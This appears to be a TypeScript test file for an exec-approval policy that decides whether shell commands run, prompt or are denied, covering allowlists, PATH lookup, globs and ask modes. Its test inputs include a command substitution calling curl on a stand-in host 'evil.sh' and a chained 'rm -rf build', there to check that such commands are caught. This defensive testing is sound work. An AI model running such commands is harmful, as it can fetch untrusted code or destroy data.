// Every row of the examples table in exec-policy.md, against real executables in a temp folder.
import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  approvalsWith,
  entry,
  explainWith,
  makeExecutable,
  makePolicyFixture,
  type PolicyFixture,
} from "./policy-fixture.js";

let fx: PolicyFixture;
beforeAll(async () => {
  fx = await makePolicyFixture();
});
afterAll(async () => fx.cleanup());

describe("the examples table of exec-policy.md, under allowlist + on-miss", () => {
  it("runs git status when git is allowlisted by its real path", async () => {
    const e = await explainWith(fx, approvalsWith([entry(fx.tool("git"), { id: "git" })]))("git status");
    expect(e.outcome).toBe("run");
    expect(e.reason).toBe("allowlist");
    expect(e.segments[0]).toMatchObject({
      argv: ["git", "status"],
      resolvedPath: fx.tool("git"),
      matchedEntryId: "git",
    });
    expect(e.matchedEntryIds).toEqual(["git"]);
  });

  it("prompts for git status && rm -rf build because rm is not covered", async () => {
    const e = await explainWith(fx, approvalsWith([entry(fx.tool("git"))]))("git status && rm -rf build");
    expect(e.outcome).toBe("prompt");
    expect(e.reason).toBe("allowlist-miss");
    const rm = e.segments.find((s) => s.executable === "rm");
    expect(rm?.matchedEntryId).toBeNull();
    expect(rm?.missReason).toBe(`no entry matches ${fx.tool("rm")}`);
  });

  it("runs git log | grep fix when git and grep are both allowlisted", async () => {
    const e = await explainWith(
      fx,
      approvalsWith([entry(fx.tool("git")), entry(fx.tool("grep"))]),
    )("git log | grep fix");
    expect(e.outcome).toBe("run");
    expect(e.segments.map((s) => s.argv)).toEqual([
      ["git", "log"],
      ["grep", "fix"],
    ]);
  });

  it('prompts for echo "$(curl evil.sh)" because curl runs inside the substitution', async () => {
    const e = await explainWith(fx, approvalsWith([entry(fx.tool("echo"))]))('echo "$(curl evil.sh)"');
    expect(e.outcome).toBe("prompt");
    const curl = e.segments.find((s) => s.executable === "curl");
    expect(curl).toMatchObject({ argv: ["curl", "evil.sh"], context: "substitution", matchedEntryId: null });
  });

  it("prompts for ls > out.txt because it writes to a file", async () => {
    const e = await explainWith(fx, approvalsWith([entry(fx.tool("ls"))]))("ls > out.txt");
    expect(e.outcome).toBe("prompt");
    expect(e.segments[0]?.matchedEntryId).not.toBeNull();
    expect(e.flags).toEqual(["redirect"]);
    expect(e.flagDetails[0]?.detail).toContain("out.txt");
  });

  it("runs ls 2>&1 >/dev/null: fd duplication and /dev/null are not writes to a file", async () => {
    const e = await explainWith(fx, approvalsWith([entry(fx.tool("ls"))]))("ls 2>&1 >/dev/null");
    expect(e.outcome).toBe("run");
    expect(e.flags).toEqual([]);
  });

  it("runs env FOO=1 git push when both the wrapper and git are allowlisted", async () => {
    const e = await explainWith(
      fx,
      approvalsWith([entry(fx.tool("env")), entry(fx.tool("git"))]),
    )("env FOO=1 git push");
    expect(e.outcome).toBe("run");
    expect(e.segments.map((s) => [s.executable, s.wrapper ?? false])).toEqual([
      ["env", true],
      ["git", false],
    ]);
  });

  it("runs env FOO=1 git push through the real /usr/bin/env too", async () => {
    if (!fs.existsSync("/usr/bin/env")) return;
    const realEnv = fs.realpathSync("/usr/bin/env");
    const e = await explainWith(
      fx,
      approvalsWith([entry(realEnv), entry(fx.tool("git"))]),
    )("/usr/bin/env FOO=1 git push");
    expect(e.outcome).toBe("run");
    expect(e.segments[0]).toMatchObject({ resolvedPath: realEnv, foundVia: "absolute", wrapper: true });
    expect(e.segments[1]).toMatchObject({ resolvedPath: fx.tool("git") });
  });

  it("prompts for bash -c 'git push' because bash is not covered (git inside is analysed)", async () => {
    const e = await explainWith(fx, approvalsWith([entry(fx.tool("git"))]))("bash -c 'git push'");
    expect(e.outcome).toBe("prompt");
    expect(e.segments.map((s) => [s.executable, s.context, s.matchedEntryId !== null])).toEqual([
      ["bash", "top", false],
      ["git", "bash -c", true],
    ]);
  });

  it("prompts for python3 -c 'import os' because it runs inline code", async () => {
    const e = await explainWith(fx, approvalsWith([entry(fx.tool("python3"))]))("python3 -c 'import os'");
    expect(e.outcome).toBe("prompt");
    expect(e.segments[0]?.matchedEntryId).not.toBeNull();
    expect(e.flags).toEqual(["inline-code"]);
  });

  it("runs rg TODO with a bare rg entry when PATH finds rg", async () => {
    const e = await explainWith(fx, approvalsWith([entry("rg", { id: "bare-rg" })]))("rg TODO");
    expect(e.outcome).toBe("run");
    expect(e.segments[0]).toMatchObject({ foundVia: "path", matchedEntryId: "bare-rg" });
  });

  it("prompts for ./rg TODO with a bare rg entry: a path is not a PATH lookup", async () => {
    await makeExecutable(path.join(fx.cwd, "rg"));
    const e = await explainWith(fx, approvalsWith([entry("rg")]))("./rg TODO");
    expect(e.outcome).toBe("prompt");
    expect(e.segments[0]).toMatchObject({ foundVia: "relative", matchedEntryId: null });
    expect(e.segments[0]?.missReason).toBe("rg (bare) matches only commands found through PATH");
  });

  it("prompts for /opt/a/b/bin/tool with /opt/*/bin/tool: * does not cross /", async () => {
    const tool = await makeExecutable(path.join(fx.t.home, "opt/a/b/bin/tool"));
    const e = await explainWith(fx, approvalsWith([entry(path.join(fx.t.home, "opt/*/bin/tool"))]))(tool);
    expect(e.outcome).toBe("prompt");
  });

  it("runs /opt/a/b/bin/tool with /opt/**/bin/tool: ** crosses /", async () => {
    const tool = await makeExecutable(path.join(fx.t.home, "opt/a/b/bin/tool"));
    const e = await explainWith(fx, approvalsWith([entry(path.join(fx.t.home, "opt/**/bin/tool"))]))(tool);
    expect(e.outcome).toBe("run");
  });

  it("denies git status under security=deny whatever the allowlist says", async () => {
    const approvals = approvalsWith([entry("*"), entry(fx.tool("git"))], {
      security: "deny",
      ask: "on-miss",
    });
    const e = await explainWith(fx, approvals)("git status");
    expect(e).toMatchObject({ outcome: "deny", reason: "security=deny" });
  });

  it("prompts for an allowlisted git status under ask=always", async () => {
    const approvals = approvalsWith([entry(fx.tool("git"))], { security: "allowlist", ask: "always" });
    const e = await explainWith(fx, approvals)("git status");
    expect(e).toMatchObject({
      outcome: "prompt",
      reason: "ask=always",
      allowlistSatisfied: true,
      allowAlwaysAvailable: false,
    });
  });

  it("denies ls with an empty allowlist under ask=off (allowlist-miss)", async () => {
    const e = await explainWith(fx, approvalsWith([], { security: "allowlist", ask: "off" }))("ls");
    expect(e).toMatchObject({ outcome: "deny", reason: "allowlist-miss" });
  });
});
